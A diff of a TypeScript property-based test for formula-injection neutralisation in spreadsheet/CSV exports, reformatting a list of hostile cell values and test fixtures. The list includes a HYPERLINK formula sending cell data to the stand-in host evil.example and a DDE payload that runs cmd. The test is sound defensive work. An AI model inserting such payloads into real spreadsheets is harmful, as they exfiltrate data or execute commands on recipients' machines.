@@ -10,10 +10,22 @@ import { type SheetTable, tableCsv, tableWorkbook } from '../../../main/export/d
 import { neutraliseFormula } from '../../../shared/domain/spreadsheet-safe';
 
 const TRIGGER = /^[=+\-@\t\r]/;
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", '+84912345678', '-1+1', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+  "=cmd|' /C calc'!A0",
+  '+84912345678',
+  '-1+1',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 /** Text that often starts with a formula trigger, and often not. */
-const cellText = fc.oneof(fc.string(), fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b), fc.constantFrom(...HOSTILE));
+const cellText = fc.oneof(
+  fc.string(),
+  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b),
+  fc.constantFrom(...HOSTILE),
+);
 
 describe('formula injection', () => {
   it('never leaves text starting with a formula trigger, and changes nothing else', () => {
@@ -28,8 +40,19 @@ describe('formula injection', () => {
     );
   });
 
-  const table = (rows: string[][]): SheetTable => ({ title: 'Danh sách đại biểu', headers: ['STT', 'Mã', 'Họ và tên', 'Đơn vị'], rows: rows.map((r, i) => [i + 1, ...r]) });
-  const meta = { title: 'Danh sách', subject: 'Đại biểu', createdAt: '2026-12-15T07:30:00.000Z', appVersion: '0.1.0', schemaVersion: 4, congressName: '=Đại hội' };
+  const table = (rows: string[][]): SheetTable => ({
+    title: 'Danh sách đại biểu',
+    headers: ['STT', 'Mã', 'Họ và tên', 'Đơn vị'],
+    rows: rows.map((r, i) => [i + 1, ...r]),
+  });
+  const meta = {
+    title: 'Danh sách',
+    subject: 'Đại biểu',
+    createdAt: '2026-12-15T07:30:00.000Z',
+    appVersion: '0.1.0',
+    schemaVersion: 4,
+    congressName: '=Đại hội',
+  };
 
   it('a CSV export read back: every hostile cell is text', async () => {
     await fc.assert(
